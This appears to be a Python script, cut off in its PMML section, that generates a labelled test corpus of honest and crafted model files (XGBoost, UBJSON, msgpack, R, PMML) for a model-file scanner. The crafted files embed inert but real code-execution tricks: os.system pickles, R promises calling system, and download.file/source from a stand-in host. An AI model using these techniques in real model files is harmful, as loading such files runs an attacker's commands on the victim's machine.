#!/usr/bin/env python3
"""Models of trees and tables, and what carries them (XGBoost, UBJSON, msgpack, LightGBM, CatBoost,
PMML, OpenVINO, R, XML): honest files by their specifications, and one for every way in which such a
file can lie. Standard library only.

    tree_tricks.py OUTDIR

writes the files and OUTDIR/manifest.tsv with one line a file:

    path  label (malicious, suspicious, benign)  trick  loader  expected rules (comma)  least verdict

All payloads are inert: they would print a word.
"""
import base64
import bz2
import copy
import gzip
import io
import json
import lzma
import os
import random
import struct
import sys
import zipfile
import zlib

PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x0b\x00\x00\x00echo canaryq\x01\x85q\x02Rq\x03."
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\0" * 200
CODE = "__import__('os').system('echo canary')"
rows = []
out_dir = "."
rng = random.Random(11)


def emit(name, data, label, trick, rules="", verdict="dangerous", loader="by specification"):
    path = os.path.join(out_dir, name)
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    if label == "benign":
        verdict = "clean"
    rows.append((name, label, trick, loader, rules, verdict))


def ok(name, data, trick, loader="by specification"):
    emit(name, data, "benign", trick, loader=loader)


def bad(name, data, trick, rules, verdict="dangerous", label="malicious", loader="by specification"):
    emit(name, data, label, trick, rules, verdict, loader)


# --- XGBoost ---
def xgb_tree(number, depth=2, features=4):
    n = 2 ** (depth + 1) - 1
    inner = 2 ** depth - 1
    left = [2 * i + 1 if i < inner else -1 for i in range(n)]
    return {"base_weights": [0.5] * n, "categories": [], "categories_nodes": [],
            "categories_segments": [], "categories_sizes": [], "default_left": [0] * n, "id": number,
            "left_children": left, "loss_changes": [1.0] * n,
            "parents": [2147483647] + [(i - 1) // 2 for i in range(1, n)],
            "right_children": [i + 1 if i > 0 else -1 for i in left],
            "split_conditions": [0.25] * n,
            "split_indices": [i % features if i < inner else 0 for i in range(n)],
            "split_type": [0] * n, "sum_hessian": [9.0] * n,
            "tree_param": {"num_deleted": "0", "num_feature": str(features), "num_nodes": str(n),
                           "size_leaf_vector": "0"}}


def xgb_model(trees=3):
    return {"learner": {
        "attributes": {"best_score": "0.1"}, "feature_names": ["a", "b", "c", "d"],
        "feature_types": ["float"] * 4,
        "gradient_booster": {"model": {
            "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": str(trees),
                                   "size_leaf_vector": "0"},
            "tree_info": [0] * trees, "trees": [xgb_tree(i) for i in range(trees)]},
            "name": "gbtree"},
        "learner_model_param": {"base_score": "5E-1", "boost_from_average": "1", "num_class": "0",
                                "num_feature": "4", "num_target": "1"},
        "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}}},
        "version": [1, 7, 4]}


def ubj(value):
    """As XGBoost writes it: 64-bit sizes, integers and floats in typed arrays."""
    size = lambda n: b"L" + struct.pack(">q", n)
    if isinstance(value, dict):
        return b"{" + b"".join(size(len(k.encode())) + k.encode() + ubj(v)
                               for k, v in value.items()) + b"}"
    if isinstance(value, list):
        if value and all(type(v) is int for v in value):
            return b"[$l#" + size(len(value)) + b"".join(struct.pack(">i", v) for v in value)
        if value and all(type(v) is float for v in value):
            return b"[$d#" + size(len(value)) + b"".join(struct.pack(">f", v) for v in value)
        return b"[#" + size(len(value)) + b"".join(map(ubj, value))
    if isinstance(value, str):
        return b"S" + size(len(value.encode())) + value.encode()
    if isinstance(value, float):
        return b"d" + struct.pack(">f", value)
    return b"L" + struct.pack(">q", value)


def xgb_binary(model):
    """The structs of the releases before 2.0."""
    text = lambda s: struct.pack("<Q", len(s)) + s.encode()
    learner = model["learner"]
    booster = learner["gradient_booster"]["model"]
    param = learner["learner_model_param"]
    out = b"binf" + struct.pack("<fIiiiIII", 0.5, int(param["num_feature"]) & 0xffffffff,
                                int(param["num_class"]), 1, 0, 1, 7, 1) + b"\0" * 104
    out += text(learner["objective"]["name"]) + text(learner["gradient_booster"]["name"])
    out += struct.pack("<iiiiqii", int(booster["gbtree_model_param"]["num_trees"]), 1, 4, 0, 0, 1, 0)
    out += b"\0" * 128
    for tree in booster["trees"]:
        n = int(tree["tree_param"]["num_nodes"])
        out += struct.pack("<6i", 1, n, 0, 0, 4, 0) + b"\0" * 124
        for i in range(len(tree["left_children"])):
            parent = -1 if i == 0 else tree["parents"][i] & 0x7fffffff
            out += struct.pack("<iiiIf", parent, tree["left_children"][i], tree["right_children"][i],
                               tree["split_indices"][i] & 0x7fffffff, 0.5)
        out += struct.pack("<fffi", 1, 9, 0.5, 0) * len(tree["left_children"])
    out += b"".join(struct.pack("<i", i) for i in booster["tree_info"])
    attributes = learner["attributes"]
    out += struct.pack("<Q", len(attributes)) + b"".join(text(k) + text(v)
                                                         for k, v in attributes.items())
    return out


def xgboost():
    model = xgb_model()
    ok("xgb_ok.json", json.dumps(model), "honest", "xgboost")
    ok("xgb_ok.ubj", ubj(model), "honest", "xgboost")
    ok("xgb_ok.model", xgb_binary(model), "honest", "xgboost")
    ok("xgb_ok_spaces.json", json.dumps(model, indent=2), "honest, with white space", "xgboost")
    named = xgb_model()
    named["learner"]["attributes"] = {"note": "import of 2024; see os and system tables, exec summary",
                                      "scikit_learn": json.dumps({"_estimator_type": "classifier"})}
    named["learner"]["feature_names"] = ["system", "eval", "import os", "path/../x"]
    ok("xgb_ok_words.json", json.dumps(named), "words that only look like code", "xgboost")
    ok("xgb_ok_words.ubj", ubj(named), "words that only look like code", "xgboost")

    def change(name, trick, rules, edit, verdict="dangerous", forms=("json", "ubj", "model"),
               label="malicious"):
        m = xgb_model()
        edit(m, m["learner"], m["learner"]["gradient_booster"]["model"],
             m["learner"]["gradient_booster"]["model"]["trees"][1])
        for form in forms:
            data = {"json": lambda: json.dumps(m), "ubj": lambda: ubj(m),
                    "model": lambda: xgb_binary(m)}[form]()
            bad("xgb_%s.%s" % (name, form), data, trick, rules, verdict, label, "xgboost")

    def put(key, index, value):
        return lambda m, l, b, t: t[key].__setitem__(index, value)

    change("left_beyond", "left child beyond the tree", "xgboost.bad-tree", put("left_children", 1, 4000000))
    change("right_beyond", "right child beyond the tree", "xgboost.bad-tree", put("right_children", 0, 7))
    change("negative", "negative child", "xgboost.bad-tree", put("left_children", 2, -77))
    change("circle", "a child is its own ancestor", "xgboost.bad-tree", put("left_children", 2, 0))
    change("self", "a node is its own child", "xgboost.bad-tree", put("left_children", 1, 1))
    change("shared", "two ways to one node", "xgboost.bad-tree", put("left_children", 1, 5))
    change("half", "one child only", "xgboost.bad-tree", put("right_children", 1, -1))
    change("split", "split index beyond the features", "xgboost.bad-split", put("split_indices", 0, 70000))
    change("split_edge", "split index is the number of features", "xgboost.bad-split", put("split_indices", 0, 4))
    change("features_fewer", "the model has fewer features than its trees", "xgboost.bad-count,xgboost.bad-split",
           lambda m, l, b, t: l["learner_model_param"].update(num_feature="2"), forms=("json", "ubj"))
    change("trees_more", "num_trees more than there are", "xgboost.bad-count",
           lambda m, l, b, t: b["gbtree_model_param"].update(num_trees="9"), forms=("json", "ubj"))
    change("trees_huge", "num_trees 2^31-1", "xgboost.bad-count",
           lambda m, l, b, t: b["gbtree_model_param"].update(num_trees="2147483647"))
    change("trees_negative", "num_trees negative", "xgboost.bad-count",
           lambda m, l, b, t: b["gbtree_model_param"].update(num_trees="-1"))
    change("nodes_more", "num_nodes more than the lists hold", "xgboost.list-length,xgboost.bad-tree",
           lambda m, l, b, t: t["tree_param"].update(num_nodes="4000"), forms=("json", "ubj"))
    change("nodes_huge", "num_nodes 2^30", "xgboost.bad-count,xgboost.list-length",
           lambda m, l, b, t: t["tree_param"].update(num_nodes="1073741824"))
    change("nodes_zero", "a tree of no nodes", "xgboost.bad-count",
           lambda m, l, b, t: t["tree_param"].update(num_nodes="0"), forms=("json", "ubj"))
    change("class", "num_class negative", "xgboost.bad-count",
           lambda m, l, b, t: l["learner_model_param"].update(num_class="-2"))
    change("feature", "num_feature is text", "xgboost.bad-count",
           lambda m, l, b, t: l["learner_model_param"].update(num_feature="4;x"), forms=("json", "ubj"))
    change("info", "tree_info beyond the classes", "xgboost.bad-count",
           lambda m, l, b, t: b["tree_info"].__setitem__(1, 50))
    change("info_short", "tree_info too short", "xgboost.list-length",
           lambda m, l, b, t: b["tree_info"].pop(), forms=("json", "ubj"))
    change("list_short", "a list is shorter than the tree", "xgboost.list-length",
           lambda m, l, b, t: t["split_conditions"].pop(), forms=("json", "ubj"))
    change("category", "categories beyond their list", "xgboost.bad-category",
           lambda m, l, b, t: t.update(categories=[1, 2], categories_nodes=[0],
                                       categories_segments=[1], categories_sizes=[900]),
           forms=("json", "ubj"))
    change("category_node", "categories of a node that is none", "xgboost.bad-category",
           lambda m, l, b, t: t.update(categories=[1, 2], categories_nodes=[99],
                                       categories_segments=[0], categories_sizes=[2]),
           forms=("json", "ubj"))
    change("no_booster", "no gradient_booster", "xgboost.missing-part",
           lambda m, l, b, t: l.pop("gradient_booster"), forms=("json", "ubj"))
    change("objective", "objective that needs a plug-in", "xgboost.unknown-name",
           lambda m, l, b, t: l["objective"].update(name="custom:evil"), "review", label="suspicious")
    change("booster", "booster that does not exist", "xgboost.unknown-name",
           lambda m, l, b, t: l["gradient_booster"].update(name="../plugin.so"), "review",
           label="suspicious")
    change("attribute_code", "program text as an attribute", "data.code-in-text",
           lambda m, l, b, t: l["attributes"].update(note=CODE))
    change("feature_code", "program text as a feature's name", "data.code-in-text",
           lambda m, l, b, t: l["feature_names"].__setitem__(0, "<script>alert(1)</script>"),
           forms=("json", "ubj"))
    text = json.dumps(model)
    bad("xgb_duplicate.json", text.replace('"id": 1', '"id": 1, "left_children": [-1]', 1),
        "a key twice", "xgboost.duplicate-key", loader="xgboost")
    bad("xgb_trailing.json", text + json.dumps({"a": CODE}), "bytes behind the document",
        "xgboost.trailing-data", loader="xgboost")
    bad("xgb_trailing_pickle.json", text.encode() + PICKLE, "a pickle behind the document",
        "xgboost.trailing-data,data.hidden-payload", "dangerous", loader="xgboost")
    bad("xgb_cut.json", text[:len(text) // 2], "cut off", "file.truncated", "review", "suspicious",
        "xgboost")
    bad("xgb_cut.ubj", ubj(model)[:900], "cut off", "file.truncated,ubjson.size", "review",
        "suspicious", "xgboost")
    bad("xgb_cut.model", xgb_binary(model)[:600], "cut off", "file.truncated,xgboost.bad-count",
        "review", "suspicious", "xgboost")
    bad("xgb_trailing.model", xgb_binary(model) + ELF, "an ELF behind the model",
        "xgboost.trailing-data,data.hidden-payload", loader="xgboost")
    bad("xgb_trailing.ubj", ubj(model) + PICKLE, "a pickle behind the model",
        "ubjson.trailing-data,data.hidden-payload", loader="xgboost")
    bad("xgb_is_pickle.json", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")
    bad("xgb_is_pickle.ubj", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")


def ubjson():
    big = lambda n: b"L" + struct.pack(">q", n)
    ok("u_ok.ubj", ubj({"a": [1, 2], "b": "text", "c": [0.5], "d": {"e": []}}), "honest")
    ok("u_ok_typed.ubj", b"{U\x01a[$U#U\x03\x01\x02\x03U\x01b[NZTFNi\x05]U\x01c{#U\x01U\x01xZ}",
       "typed arrays, no-ops, counts")
    bad("u_string.ubj", b"{U\x01aS" + big(2 ** 40) + b"x}", "string of 2^40 bytes", "ubjson.size")
    bad("u_negative.ubj", b"{U\x01aSi\xff}", "string of -1 bytes", "ubjson.size")
    bad("u_count.ubj", b"{U\x01a[#" + big(2 ** 60), "array of 2^60", "ubjson.size")
    bad("u_typed.ubj", b"{U\x01a[$D#" + big(2 ** 61), "array of 2^61 numbers wraps", "ubjson.size")
    bad("u_null.ubj", b"{U\x01a[$Z#" + big(2 ** 60) + b"}", "2^60 nulls in 12 bytes", "ubjson.bomb")
    bad("u_deep.ubj", b"{U\x01a" + b"[" * 100000, "100,000 deep", "ubjson.depth")
    bad("u_marker.ubj", b"{U\x01a\xfe}", "unknown type", "ubjson.bad-marker")
    bad("u_duplicate.ubj", b"{U\x01aZU\x01aT}", "a key twice", "ubjson.duplicate-key")
    bad("u_code.ubj", ubj({"hook": CODE}), "program text", "data.code-in-text")
    bad("u_learner_bomb.ubj", b"{" + big(7) + b"learner[$T#" + big(2 ** 50), "2^50 truths in a model",
        "ubjson.bomb", loader="xgboost")


# --- msgpack ---
def mp(value):
    if isinstance(value, Ext):
        return value.data
    if value is None:
        return b"\xc0"
    if isinstance(value, bool):
        return b"\xc3" if value else b"\xc2"
    if isinstance(value, int):
        if 0 <= value < 128:
            return bytes([value])
        return b"\xd3" + struct.pack(">q", value)
    if isinstance(value, float):
        return b"\xcb" + struct.pack(">d", value)
    if isinstance(value, str):
        raw = value.encode()
        return (bytes([0xa0 | len(raw)]) if len(raw) < 32 else b"\xdb" + struct.pack(">I", len(raw))) + raw
    if isinstance(value, bytes):
        return b"\xc6" + struct.pack(">I", len(value)) + value
    if isinstance(value, dict):
        return b"\xdf" + struct.pack(">I", len(value)) + b"".join(mp(k) + mp(v) for k, v in value.items())
    few = len(value) < 16
    return (bytes([0x90 | len(value)]) if few else b"\xdd" + struct.pack(">I", len(value))) + b"".join(map(mp, value))


class Ext:
    def __init__(self, kind, data):
        self.data = b"\xc9" + struct.pack(">Ib", len(data), kind) + data


def flax(shape, dtype, data, kind=1):
    return Ext(kind, mp([list(shape), dtype, data]))


def msgpack():
    weights = struct.pack("<8f", *(rng.gauss(0, 1) for _ in range(8)))
    good = {"params": {"Dense_0": {"kernel": flax((4, 2), "float32", weights),
                                   "bias": flax((2,), "float32", b"\0" * 8)}}, "step": 3}
    ok("flax_ok.msgpack", mp(good), "honest", "flax")
    ok("flax_ok_no_ending", mp(good), "honest, without an ending", "flax")
    ok("mp_ok_zlib.msgpack", mp({"a": zlib.compress(b"weights" * 200)}), "compressed numbers", "msgpack")
    ok("mp_ok_words.msgpack", mp({"note": "evaluate os and system; import later", "import": 1}),
       "words that only look like code", "msgpack")
    ok("mp_ok_nd.msgpack", mp({"nd": True, "type": "<f4", "kind": "", "shape": [2], "data": b"\0" * 8}),
       "an array of msgpack_numpy", "msgpack_numpy")
    bad("flax_pickle.msgpack", mp({"params": {"w": PICKLE}}), "a pickle in bytes", "pickle.call-on-load",
        "malicious", loader="flax")
    bad("flax_pickle_z.msgpack", mp({"params": {"w": zlib.compress(PICKLE)}}), "a compressed pickle in bytes",
        "pickle.call-on-load", "malicious", loader="flax")
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as z:
        z.writestr("data.pkl", PICKLE)
    bad("flax_zip.msgpack", mp({"params": {"w": raw.getvalue()}}), "a zip with a pickle in bytes",
        "pickle.call-on-load", "malicious", loader="flax")
    bad("mp_ext.msgpack", mp({"a": Ext(42, b"\0" * 16)}), "unknown extension type", "msgpack.unknown-ext",
        "review", "suspicious")
    bad("mp_ext_pickle.msgpack", mp({"a": Ext(42, PICKLE)}), "a pickle as an extension type",
        "pickle.call-on-load", "malicious")
    bad("mp_numpy_object.msgpack",
        mp({"nd": True, "type": "|O", "kind": "O", "shape": [1], "data": PICKLE}),
        "an object array of msgpack_numpy", "msgpack.pickled-array", "malicious", loader="msgpack_numpy")
    bad("mp_numpy_object_b.msgpack",
        mp({b"nd": True, b"type": b"|O", b"kind": b"O", b"shape": [1], b"data": b"\x80\x04N."}),
        "an object array of msgpack_numpy, bytes as keys", "msgpack.pickled-array", "malicious",
        loader="msgpack_numpy")
    bad("mp_reduce.msgpack", mp({"params": {"__reduce__": ["os.system", "echo canary"]}}),
        "keys of a serialised object", "msgpack.object-key")
    bad("mp_jsonpickle.msgpack", mp({"py/reduce": [{"py/function": "os.system"}, ["echo canary"]]}),
        "keys of jsonpickle", "msgpack.object-key")
    bad("mp_code.msgpack", mp({"hook": CODE}), "program text", "data.code-in-text")
    bad("mp_code_key.msgpack", mp({CODE: 1}), "program text as a key", "data.code-in-text")
    bad("mp_elf.msgpack", mp({"w": ELF}), "a program in bytes", "data.hidden-payload")
    bad("mp_deep.msgpack", b"\x81\xa1a" + b"\x91" * 100000, "100,000 deep", "msgpack.depth")
    bad("mp_str.msgpack", b"\x81\xa1a\xdb\xff\xff\xff\xff", "string of 2^32-1 bytes", "msgpack.size")
    bad("mp_bin.msgpack", b"\x81\xa1a\xc6\x7f\xff\xff\xffxx", "bytes of 2^31", "msgpack.size")
    bad("mp_array.msgpack", b"\x81\xa1a\xdd\xff\xff\xff\xff", "array of 2^32-1", "msgpack.size")
    bad("mp_map.msgpack", b"\xdf\xff\xff\xff\xff\xa1a\x01", "map of 2^32-1", "msgpack.size")
    bad("mp_ext_size.msgpack", b"\x81\xa1a\xc9\xff\xff\xff\xf0\x01x", "extension of 2^32 bytes", "msgpack.size")
    bad("mp_never.msgpack", b"\x82\xa1a\x01\xa1b\xc1", "a type that is never used", "msgpack.bad-type")
    bad("mp_duplicate.msgpack", b"\x82\xa1a\x01\xa1a\x02", "a key twice", "msgpack.duplicate-key")
    bad("mp_trailing.msgpack", mp(good) + PICKLE, "a pickle behind the value",
        "msgpack.trailing-data,data.hidden-payload")
    bad("mp_trailing_zero.msgpack", mp(good) + b"\0" * 40, "bytes behind the value", "msgpack.trailing-data")
    for name, array, trick in [
            ("size", flax((4, 4), "float32", weights), "shape larger than the data"),
            ("small", flax((1,), "float32", weights), "data larger than the shape"),
            ("negative", flax((-4, 2), "float32", weights), "negative dimension"),
            ("overflow", flax((2 ** 62, 2 ** 62), "float32", weights), "product beyond 64 bits"),
            ("object", flax((8,), "object", weights), "array of objects"),
            ("parts", Ext(1, mp([1, 2])), "two parts instead of three"),
            ("shape", Ext(1, mp(["8", "float32", weights])), "shape is text"),
            ("inner", Ext(1, mp([[8], "float32", weights]) + b"more"), "bytes behind the array")]:
        bad("flax_array_%s.msgpack" % name, mp({"w": array}), trick, "msgpack.bad-array", loader="flax")
    bad("mp_cut.msgpack", mp(good)[:-10], "cut off", "file.truncated,msgpack.size,msgpack.bad-array", "review", "suspicious")
    bad("mp_is_pickle.msgpack", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")


# --- R ---
class R:
    """R's serialisation, version 3, big endian."""
    NIL, GLOBAL, UNBOUND, MISSING, EMPTY, BASE = [struct.pack(">i", n) for n in
                                                  (254, 253, 252, 251, 242, 241)]

    def __init__(self):
        self.refs = {}

    def char(self, text):
        raw = text.encode()
        return struct.pack(">ii", 0x40009, len(raw)) + raw

    def sym(self, name):
        if name in self.refs:
            return struct.pack(">i", self.refs[name] << 8 | 0xff)
        self.refs[name] = len(self.refs) + 1
        return struct.pack(">i", 1) + self.char(name)

    def text(self, *texts):
        return struct.pack(">ii", 16, len(texts)) + b"".join(map(self.char, texts))

    def real(self, *numbers):
        return struct.pack(">ii", 14, len(numbers)) + struct.pack(">%dd" % len(numbers), *numbers)

    def raw(self, data):
        return struct.pack(">ii", 24, len(data)) + data

    def list(self, *items):
        return struct.pack(">ii", 19, len(items)) + b"".join(items)

    def pairs(self, *items):
        """items: (tag or None, thunk)"""
        out = b""
        for tag, item in items:
            out += struct.pack(">i", 2 | (0x400 if tag else 0)) + (self.sym(tag) if tag else b"") + item()
        return out + self.NIL

    def call(self, head, *items):
        """head: a name or a thunk; items: thunks"""
        out = struct.pack(">i", 6) + (self.sym(head) if isinstance(head, str) else head())
        return out + self.pairs(*((None, item) for item in items))

    def promise(self, expression, value=None, env=None):
        out = struct.pack(">i", 5 | (0x400 if env else 0)) + (env or b"")
        return out + (value or self.UNBOUND) + expression()

    def closure(self, body, formals=None):
        return struct.pack(">i", 3 | 0x400) + self.GLOBAL + (formals or self.NIL) + body()

    def env(self, frame):
        self.refs["env%d" % len(self.refs)] = len(self.refs) + 1
        return struct.pack(">ii", 4, 0) + self.EMPTY + frame() + self.NIL + self.NIL

    def file(self, item, magic=b""):
        return magic + b"X\n" + struct.pack(">iii", 3, 0x40202, 0x30500) + struct.pack(">i", 5) + b"UTF-8" + item


def rdata():
    run = lambda r: lambda: r.call("system", lambda: r.text("echo canary"))

    def rds(name, trick, rules, make, verdict="dangerous", label="malicious", ending="rds", pack=gzip.compress,
            loader="R"):
        r = R()
        magic = b"RDX3\n" if ending == "rda" else b""
        data = pack(r.file(make(r), magic))
        if label == "benign":
            ok("r_%s.%s" % (name, ending), data, trick, loader)
        else:
            bad("r_%s.%s" % (name, ending), data, trick, rules, verdict, label, loader)

    plain = lambda data: data
    rds("ok_list", "honest", "", lambda r: r.list(r.real(1, 2), r.text("system", "echo")), label="benign")
    rds("ok_formula", "a formula", "", lambda r: r.call("~", lambda: r.sym("y"), lambda: r.call(
        "log", lambda: r.sym("system"))), label="benign")
    rds("ok_evaluated", "an evaluated promise in a frame", "",
        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(lambda: r.sym("y"), r.real(1.0))))),
        label="benign")
    rds("ok_waiting", "a promise in a frame", "",
        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(lambda: r.call("+", lambda: r.real(1.0),
                                                                             lambda: r.sym("k")),
                                                                env=R.GLOBAL)))), label="benign")
    rds("ok_closure", "a function", "", lambda r: r.closure(lambda: r.call("eval", lambda: r.sym("expr"))),
        label="benign")
    rds("ok_workspace", "a workspace", "", lambda r: r.pairs(("model", lambda: r.real(1.0)),
                                                            ("print", lambda: r.real(2.0))),
        label="benign", ending="rda")
    for pack, how in ((plain, "plain"), (gzip.compress, "gzip"), (bz2.compress, "bzip2"), (lzma.compress, "xz")):
        rds("promise_" + how, "a promise as the object, " + how, "r.promise-call",
            lambda r: r.promise(run(r), env=R.GLOBAL), "malicious", pack=pack)
    rds("promise_no_env", "a promise without an environment", "r.promise-call", lambda r: r.promise(run(r)),
        "malicious")
    rds("promise_list", "a promise in a list", "r.promise-call",
        lambda r: r.list(r.real(1.0), r.promise(run(r), env=R.GLOBAL)), "malicious")
    rds("promise_rda", "a promise in a workspace", "r.promise-call",
        lambda r: r.pairs(("a", lambda: r.real(1.0)), ("b", lambda: r.promise(run(r), env=R.GLOBAL))),
        "malicious", ending="rda")
    rds("promise_colons", "base::system in a promise", "r.promise-call",
        lambda r: r.promise(lambda: r.call(lambda: r.call("::", lambda: r.sym("base"), lambda: r.sym("system")),
                                           lambda: r.text("echo canary")), env=R.GLOBAL), "malicious")
    rds("promise_do_call", "do.call in a promise", "r.promise-call",
        lambda r: r.promise(lambda: r.call("do.call", lambda: r.text("system"), lambda: r.call(
            "list", lambda: r.text("echo canary"))), env=R.GLOBAL), "malicious")
    rds("promise_get", "get() in a promise", "r.promise-call",
        lambda r: r.promise(lambda: r.call(lambda: r.call("get", lambda: r.text("system")),
                                           lambda: r.text("echo canary")), env=R.GLOBAL), "malicious")
    rds("promise_eval", "eval(parse()) in a promise", "r.promise-call",
        lambda r: r.promise(lambda: r.call("eval", lambda: r.call("parse", lambda: r.text(
            "system('echo canary')"))), env=R.GLOBAL), "malicious")
    rds("promise_block", "a call deep in a block", "r.promise-call",
        lambda r: r.promise(lambda: r.call("{", lambda: r.call("<-", lambda: r.sym("x"), lambda: r.real(1.0)),
                                           lambda: r.call("if", lambda: r.sym("TRUE"), run(r))), env=R.GLOBAL),
        "malicious")
    rds("promise_download", "download.file in a promise", "r.promise-call",
        lambda r: r.promise(lambda: r.call("download.file", lambda: r.text("http://203.0.113.9/x"),
                                           lambda: r.text("/tmp/x")), env=R.GLOBAL), "malicious")
    rds("promise_harmless", "a promise that computes", "r.promise",
        lambda r: r.promise(lambda: r.call("+", lambda: r.real(1.0), lambda: r.real(2.0)), env=R.GLOBAL))
    rds("promise_attribute", "a promise in an attribute", "r.promise-call",
        lambda r: struct.pack(">ii", 14 | 0x200, 1) + struct.pack(">d", 1.0) + r.pairs(
            ("names", lambda: r.promise(run(r), env=R.GLOBAL))), "malicious")
    rds("closure", "a function that runs a command", "r.command-call", lambda r: r.closure(run(r)))
    rds("closure_system2", "a function that runs a command by system2", "r.command-call",
        lambda r: r.list(r.real(1.0), r.closure(lambda: r.call("system2", lambda: r.text("echo"), lambda: r.text("canary")))))
    rds("formula", "a formula that runs a command", "r.command-call",
        lambda r: r.call("~", lambda: r.sym("y"), lambda: r.call("log", run(r))))
    rds("expression", "an expression vector that runs a command", "r.command-call",
        lambda r: struct.pack(">ii", 20, 1) + run(r)())
    rds("frame", "a waiting argument that runs a command", "r.command-call",
        lambda r: r.env(lambda: r.pairs(("x", lambda: r.promise(run(r), env=R.GLOBAL)))))
    rds("dyn_load", "a function that loads a library", "r.command-call",
        lambda r: r.closure(lambda: r.call("dyn.load", lambda: r.text("./evil.so"))))
    rds("lapply", "a command by lapply", "r.command-call",
        lambda r: r.closure(lambda: r.call("lapply", lambda: r.text("echo canary"), lambda: r.sym("system"))))
    rds("source", "a function that sources a file", "r.load-call",
        lambda r: r.closure(lambda: r.call("source", lambda: r.text("http://203.0.113.9/x.R"))), "review",
        "suspicious")
    rds("finalizer", "a function that registers a finalizer", "r.load-call",
        lambda r: r.closure(lambda: r.call("reg.finalizer", lambda: r.sym("e"), lambda: r.sym("f"))), "review",
        "suspicious")
    rds("url", "a function that opens an address", "r.network-call",
        lambda r: r.closure(lambda: r.call("url", lambda: r.text("http://203.0.113.9/"))), "review", "suspicious")
    rds("eval", "a function that evaluates text", "r.eval-text",
        lambda r: r.closure(lambda: r.call("eval", lambda: r.call("parse", lambda: r.sym("x")))), "review",
        "suspicious")
    rds("first", "a workspace with .First", "r.startup-function",
        lambda r: r.pairs((".First", lambda: r.closure(lambda: r.call("message", lambda: r.text("canary"))))),
        ending="rda")
    rds("mask", "a workspace with a print of its own", "r.masking-function",
        lambda r: r.pairs(("print", lambda: r.closure(lambda: r.call("message", lambda: r.text("canary"))))),
        "review", "suspicious", ending="rda")
    altrep = lambda r, name, package, state: (struct.pack(">i", 238) + r.pairs(
        (None, lambda: r.sym(name)), (None, lambda: r.sym(package)),
        (None, lambda: struct.pack(">iii", 13, 1, 13))) + state() + R.NIL)
    rds("ok_altrep", "a compact sequence", "", lambda r: altrep(r, "compact_intseq", "base", lambda: r.real(10, 1, 1)),
        label="benign")
    rds("altrep_mmap", "a vector that maps a file", "r.altrep-file",
        lambda r: altrep(r, "mmap_integer", "simplemmap", lambda: r.list(r.text("/etc/passwd"), r.real(1.0))))
    rds("altrep_package", "a vector of a package's class", "r.altrep-class",
        lambda r: altrep(r, "evil", "evilpackage", lambda: r.list()), "review", "suspicious")
    rds("persistent", "a persistent name", "r.persistent",
        lambda r: struct.pack(">iii", 247, 0, 1) + r.char("x"), "review", "suspicious")
    rds("length", "a vector of 2^40", "r.bad-length",
        lambda r: struct.pack(">iiii", 14, -1, 256, 0) + b"\0" * 64, pack=plain)
    rds("negative", "a length of -7", "r.bad-length", lambda r: struct.pack(">ii", 14, -7))
    rds("type", "a type that does not exist", "r.bad-item", lambda r: struct.pack(">i", 99))
    rds("reference", "a reference to nothing", "r.bad-item", lambda r: struct.pack(">i", 77 << 8 | 0xff))
    rds("deep", "a list 100,000 deep", "r.depth", lambda r: struct.pack(">ii", 19, 1) * 100000)
    rds("trailing", "a pickle behind the object", "r.trailing-data", lambda r: r.real(1.0) + PICKLE, pack=plain)
    rds("raw_pickle", "a pickle in a raw vector", "pickle.call-on-load",
        lambda r: r.list(r.raw(PICKLE)), "malicious")
    rds("raw_elf", "a program in a raw vector", "data.hidden-payload", lambda r: r.list(r.raw(ELF)))
    rds("cut", "cut off", "file.truncated,r.bad-length", lambda r: r.text("a", "b")[:-3], "review", "suspicious",
        pack=plain)
    ascii_call = ("A\n3\n262658\n197888\n5\nUTF-8\n%s6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n11\n"
                  "echo\\040canary\n254\n")
    bad("r_ascii_promise.rds", ascii_call % "5\n252\n", "a promise in the ASCII form", "r.promise-call", "malicious",
        loader="R")
    bad("r_ascii_call.rds", ascii_call % "", "a call in the ASCII form", "r.command-call", loader="R")
    ok("r_ok_ascii.rds", "A\n3\n262658\n197888\n5\nUTF-8\n14\n3\n1\nNA\n-Inf\n", "the ASCII form", "R")
    bad("r_is_pickle.rds", PICKLE, "a pickle by another name", "pickle.call-on-load", "malicious")


# --- PMML ---
def pmml_text(inside="", head="", root="PMML", attributes="", body=None, extension=""):
    if body is None:
        body = ('<TreeModel modelName="t" functionName="regression"><MiningSchema><MiningField name="y" '
                'usageType="target"/><MiningField name="a"/></MiningSchema>%s<Node score="1"><True/><Node score="2">'
                '<SimplePredicate field="a" operator="lessThan" value="0.5"/></Node></Node></TreeModel>' % inside)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n%s<%s xmlns="http://www.dmg.org/PMML-4_4" version="4.4"%s>'
            '<Header copyright="x"><Application name="JPMML-SkLearn" version="1.6.18"/>%s'
            '<Timestamp>2024-01-01T00:00:00Z</Timestamp></Header><DataDictionary><DataField name="y" '
            'optype="continuous" dataType="double"/><DataField name="a" optype="continuous" dataType="double"/>'
            '</DataDictionary>%s</%s>' % (head, root, attributes, extension, body, root))


def pmml():
    apply = '<LocalTransformations><DerivedField name="d" optype="continuous" dataType="double"><Apply function="%s">' \
            '<FieldRef field="a"/></Apply></DerivedField></LocalTransformations>'
    good = pmml_text(apply % "ln")
    ok("p_ok.pmml", good, "honest")
    ok("p_ok_name.xml", good, "honest, as .xml")
    ok("p_ok_bom.pmml", b"\xef\xbb\xbf" + good.encode(), "honest, with a byte order mark")
    ok("p_ok_utf16.pmml", b"\xff\xfe" + good.replace("UTF-8", "UTF-16").encode("utf-16-le"), "honest, in UTF-16")
    ok("p_ok_pipeline.pmml", pmml_text(extension='<Extension name="pipeline">PMMLPipeline(steps=[("mapper", '
                                                 'DataFrameMapper(features=[(["a"], None)])), ("classifier", '
                                                 'DecisionTreeRegressor(random_state=13))])</Extension>'),
       "the extension of sklearn2pmml")
